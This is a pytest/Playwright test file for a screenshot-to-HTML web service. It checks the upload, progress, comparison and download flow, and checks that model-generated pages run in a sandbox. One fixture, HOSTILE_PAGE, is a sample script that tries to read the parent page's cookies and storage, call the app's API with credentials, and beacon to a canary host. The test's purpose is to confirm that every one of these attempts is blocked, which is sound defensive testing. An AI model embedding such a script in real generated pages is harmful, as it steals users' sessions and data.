"""The web UI in real Chromium against `replicator serve` (uvicorn on 127.0.0.1, started here),
with the fake GLM-4.5V server as the model: upload, live progress, side-by-side result, download;
and a hostile generated page that must reach neither the app nor the network."""

from __future__ import annotations

import asyncio
import json
import re
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page

from replicator.models import SUBSCORES
from tests.plugins.fake_glm import FAKE_KEY
from tests.service_helpers import SCREENSHOT, launched_chromium, running_service

pytestmark = pytest.mark.slow


@pytest.fixture
def server(fake_glm: Any, tmp_path: Path) -> Iterator[str]:
    """`replicator serve` in a child process, on an ephemeral loopback port, backed by the fake GLM."""
    with running_service(
        tmp_path,
        REPLICATOR_BACKEND="glm",
        REPLICATOR_GLM_BASE_URL=fake_glm.base_url,
        REPLICATOR_API_KEY=FAKE_KEY,
        REPLICATOR_REFINE_ROUNDS="0",
    ) as (_, base):
        yield base


@pytest_asyncio.fixture
async def browser() -> AsyncIterator[Browser]:
    async with launched_chromium() as launched:
        yield launched


async def wait_until(page: Page, expression: str, timeout: float = 60.0) -> None:
    """Poll a JS expression until it is truthy. Not `page.wait_for_function`: its in-page polling
    compiles the predicate with `eval`, which the app's CSP (rightly) forbids, so it fails whenever
    the first check is false. `page.evaluate` goes through the DevTools protocol, which CSP does
    not govern."""
    deadline = time.monotonic() + timeout
    while not await page.evaluate(expression):
        if time.monotonic() > deadline:
            raise AssertionError(f"still false after {timeout:.0f} s: {expression}")
        await asyncio.sleep(0.05)


async def upload_through_the_ui(page: Page, base: str) -> None:
    # Generous waits: the machine running the suite may be busy; nothing here is a timing assertion.
    page.set_default_timeout(60_000)
    await page.goto(base + "/")
    await page.set_input_files("#file-input", str(SCREENSHOT))
    await page.wait_for_selector("#chosen-preview:not([hidden])")
    await page.fill("#refine-rounds", "0")
    await page.click("#submit")
    await page.wait_for_url("**/jobs/*")
    await page.wait_for_selector("#result:not([hidden])", timeout=180_000)


async def test_upload_watch_progress_compare_and_download(
    server: str, browser: Browser, tmp_path: Path
) -> None:
    context = await browser.new_context(viewport={"width": 1400, "height": 420}, accept_downloads=True)
    page = await context.new_page()
    problems: list[str] = []
    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: problems.append(str(e)))

    await upload_through_the_ui(page, server)

    # Progress came from the event stream: stages and the model's code as it arrived (kept in the
    # progress log, folded away under the result once the job is done).
    stages = await page.locator("#stages li").all_text_contents()
    assert any(s.startswith("generate") for s in stages) and any(s.startswith("render") for s in stages)
    assert "<html" in (await page.locator("#answer").text_content() or "").lower()
    assert await page.locator("#state").inner_text() == "succeeded"

    # Source and render side by side, loaded, at one scale.
    await wait_until(
        page, "['img-source','img-render'].every(id => document.getElementById(id).naturalWidth > 0)"
    )
    scales = await page.evaluate(
        "['img-source','img-render'].map(id => { const i = document.getElementById(id);"
        " return i.getBoundingClientRect().width / i.naturalWidth; })"
    )
    assert abs(scales[0] - scales[1]) < 0.01
    # Scrolling one side scrolls the other.
    await page.evaluate("document.getElementById('scroll-source').scrollTop = 120")
    await wait_until(page, "document.getElementById('scroll-render').scrollTop > 100")

    # Score breakdown, highlighted code, the heatmap, the live preview in a sandbox.
    assert await page.locator("#breakdown th").all_inner_texts() == list(SUBSCORES)  # in the docs' order
    assert float(await page.locator("#overall").inner_text()) >= 0
    # A grounded glm job: the brief its prompt carried is shown with its token cost.
    assert "brief ~" in " ".join(await page.locator("#rounds li").all_inner_texts())
    timings = await page.locator("#timings").inner_text()
    assert re.search(r"brief\s+about \d+ tokens · \d+ of \d+ text lines", timings), timings
    await page.wait_for_selector("#editor .cm-content")
    await page.click("[data-view=heatmap]")
    await wait_until(page, "document.getElementById('img-diff').naturalWidth > 0")
    await page.click("[data-view=live]")
    assert await page.get_attribute("#live", "sandbox") == "allow-scripts"
    await page.frame_locator("#live").locator("body").wait_for()

    async with page.expect_download() as download_info:
        await page.click("#download")
    download = await download_info.value
    saved = tmp_path / "download.html"
    await download.save_as(saved)
    assert "<html" in saved.read_text().lower()
    assert download.suggested_filename.startswith("replication-")

    # The history lists the job with its thumbnail and score.
    await page.goto(server + "/")
    item = page.locator(".history-item").first
    await item.wait_for()
    # The item is in the DOM before its (lazy) thumbnail has loaded: wait for the load, then ask
    # that it is the replica's own thumbnail that loaded, not the source's fallback or nothing.
    await wait_until(page, "(i => i && i.complete)(document.querySelector('.history-item img.thumb'))")
    loaded = await item.locator("img.thumb").evaluate("img => [img.naturalWidth, img.currentSrc]")
    assert loaded[0] > 0 and loaded[1].endswith("/render-thumb.png"), loaded
    assert await item.locator(".badge").inner_text() != "succeeded"  # the score is shown instead
    assert not [p for p in problems if "Content Security Policy" in p], problems
    await context.close()


HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><title>Totally normal page</title></head>
<body><h1>Welcome back</h1><pre id="out">pending</pre>
<script>
const out = {};
const attempt = (name, fn) => { try { out[name] = 'ok:' + String(fn()); } catch (e) { out[name] = 'blocked:' + e.name; } };
attempt('parent_cookie', () => parent.document.cookie);
attempt('top_cookie', () => top.document.cookie);
attempt('parent_storage', () => parent.localStorage.getItem('secret'));
attempt('own_storage', () => { localStorage.setItem('pwn', '1'); return localStorage.getItem('pwn'); });
attempt('own_cookie', () => { document.cookie = 'pwn=1'; return document.cookie; });
const fetches = [
  ['api', '/api/v1/replications'],
  ['api_absolute', 'APP/api/v1/replications'],
  ['canary_fetch', 'CANARY/fetch'],
];
Promise.all(fetches.map(([name, url]) => fetch(url, { credentials: 'include' })
  .then(r => r.text().then(t => { out[name] = 'ok:' + r.status + ':' + t.slice(0, 40); }))
  .catch(e => { out[name] = 'blocked:' + e.name; })))
  .then(() => {
    new Image().src = 'CANARY/img';
    try { navigator.sendBeacon('CANARY/beacon', 'x'); } catch (e) {}
    const out_el = document.getElementById('out');
    out_el.textContent = JSON.stringify(out);
    out_el.dataset.done = '1';
  });
</script></body></html>"""


async def test_hostile_generated_page_reaches_neither_the_app_nor_the_network(
    server: str, browser: Browser, fake_glm: Any, canary_server: Any, tmp_path: Path
) -> None:
    fixtures = tmp_path / "glm-fixtures"
    fixtures.mkdir()
    page_html = HOSTILE_PAGE.replace("CANARY", canary_server.url).replace("APP", server)
    answer = {
        "reasoning_content": "The page shows a greeting.",
        "content": f"Here you go:\n\n```html\n{page_html}\n```\n",
        "finish_reason": "stop",
    }
    (fixtures / "thinking_fenced.json").write_text(json.dumps(answer))
    fake_glm.fake.reset(api_key=FAKE_KEY, fixtures_dir=fixtures)

    context = await browser.new_context(viewport={"width": 1400, "height": 900})
    await context.add_cookies([{"name": "session", "value": "s3cret", "url": server}])
    page = await context.new_page()
    await page.goto(server + "/")
    await page.evaluate("localStorage.setItem('secret', 's3cret')")
    await upload_through_the_ui(page, server)
    await page.click("[data-view=live]")

    frame = page.frame_locator("#live")
    out = frame.locator("#out[data-done='1']")
    await out.wait_for(timeout=30_000)
    results = json.loads(await out.inner_text())
    assert set(results) == {
        "parent_cookie",
        "top_cookie",
        "parent_storage",
        "own_storage",
        "own_cookie",
        "api",
        "api_absolute",
        "canary_fetch",
    }  # the script ran to the end
    for name, outcome in results.items():
        if name == "own_cookie":
            # An opaque origin has no cookie jar: writing throws, or reads back nothing.
            assert outcome.startswith("blocked:") or "pwn" not in outcome, (name, outcome)
        else:
            assert outcome.startswith("blocked:"), (name, outcome)
    await asyncio.sleep(1.0)  # give any stray request time to land
    assert canary_server.hits == 0, canary_server.paths()
    assert await page.evaluate("localStorage.getItem('pwn')") is None
    cookies = {c["name"]: c["value"] for c in await context.cookies(server)}
    assert cookies == {"session": "s3cret"}
    assert page.url.startswith(server + "/jobs/")  # no top-level navigation happened
    await context.close()
